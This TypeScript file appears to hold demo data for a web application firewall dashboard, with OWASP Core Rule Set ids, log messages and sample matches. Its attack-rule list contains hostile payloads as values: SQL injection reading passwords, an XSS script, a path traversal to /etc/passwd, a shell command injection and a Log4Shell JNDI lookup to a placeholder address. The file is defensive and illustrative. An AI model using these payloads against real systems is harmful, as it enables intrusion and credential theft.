/** A rule of the shield, with the message and the match that logs show. */
export interface DemoRule {
  readonly feature: string;
  readonly ruleId: string;
  readonly ruleName: string;
  readonly message: string;
  readonly key: string;
  readonly value: string;
}

const rule = (feature: string, ruleId: string, ruleName: string, message: string, key: string, value: string): DemoRule => ({
  feature,
  ruleId,
  ruleName,
  message,
  key,
  value,
});

/** Ids and names of the attack rules come from the OWASP Core Rule Set. */
export const ATTACK_RULES: readonly DemoRule[] = [
  rule(
    'waf',
    '942100',
    'SQL Injection Attack Detected via libinjection',
    'detected SQLi using libinjection',
    'ARGS:q',
    "1' UNION SELECT password FROM users--",
  ),
  rule(
    'waf',
    '941100',
    'XSS Attack Detected via libinjection',
    'detected XSS using libinjection',
    'ARGS:comment',
    '<script>alert(1)</script>',
  ),
  rule(
    'waf',
    '930100',
    'Path Traversal Attack (/../) or (/.../)',
    'Matched "/../" at REQUEST_URI_RAW',
    'REQUEST_URI_RAW',
    '/../../../../etc/passwd',
  ),
  rule(
    'waf',
    '932160',
    'Remote Command Execution: Unix Shell Code Found',
    'Matched phrase "bin/sh" at ARGS:cmd',
    'ARGS:cmd',
    ';/bin/sh -c id',
  ),
  rule(
    'waf',
    '944150',
    'Potential Remote Command Execution: Log4j / Log4shell',
    'Matched "\x24{jndi:" at REQUEST_HEADERS',
    'REQUEST_HEADERS:X-Api-Version',
    '\x24{jndi:ldap://192.0.2.66/a}',
  ),
  rule(
    'waf',
    '913100',
    'Found User-Agent associated with security scanner',
    'Matched phrase "nuclei" at REQUEST_HEADERS:User-Agent',
    'REQUEST_HEADERS:User-Agent',
    'nuclei',
  ),
];

export const LOGIN_LIMIT = rule(
  'rate-limit',
  'rl-login',
  'Login attempts per address',
  'more than 10 requests in 60 s for /login',
  'RATE',
  '14/60s',
);
export const BOT_RULES: readonly DemoRule[] = [
  rule(
    'bot-detection',
    'bot-ja4',
    'Handshake of a known bot net',
    'the TLS fingerprint does not belong to the browser named',
    'JA4',
    'mismatch',
  ),
  rule('bot-detection', 'bot-pace', 'Request pace of a machine', 'requests follow each other at even intervals', 'INTERVAL', '500ms'),
];

/** The rules of everyday traffic with their actions. A frequent action is listed several times. */
export const EVERYDAY_RULES: readonly (readonly [rule: DemoRule, actions: readonly string[]])[] = [
  [rule('access-list', 'al-offices', 'Office networks', 'the address is on the list "offices"', 'REMOTE_ADDR', 'offices'), ['allowed']],
  [rule('access-list', 'al-countries', 'Countries under embargo', 'the country is on the list "embargo"', 'GEO', 'embargo'), ['blocked']],
  [rule('bot-detection', 'bot-verified', 'Verified bot', 'the bot is who it says it is', 'REMOTE_HOST', 'verified'), ['allowed', 'logged']],
  [
    rule('bot-detection', 'bot-headless', 'Headless browser', 'no plugins, no fonts', 'JS', 'webdriver'),
    ['challenged', 'challenged', 'logged'],
  ],
  [
    rule('rate-limit', 'rl-api', 'API calls per address', 'more than 100 requests in 10 s for /api', 'RATE', '131/10s'),
    ['challenged', 'blocked'],
  ],
  [
    rule('upload-scanning', 'up-eicar', 'Upload with a known signature', 'the file matches EICAR-Test-File', 'FILES', 'invoice.pdf'),
    ['blocked'],
  ],
  [
    rule('api-guardian', 'ag-schema', 'Request body does not fit the schema', 'quantity must be an integer', 'BODY:$.quantity', '"three"'),
    ['logged', 'blocked'],
  ],
  [rule('ddos', 'dd-pace', 'Connections per second', 'new connections far above the usual', 'CPS', '2214'), ['challenged', 'blocked']],
  [
    rule(
      'waf',
      '920350',
      'Host header is a numeric IP address',
      'Pattern match "^[\\d.:]+$" at REQUEST_HEADERS:Host',
      'REQUEST_HEADERS:Host',
      '192.0.2.80',
    ),
    ['logged'],
  ],
];
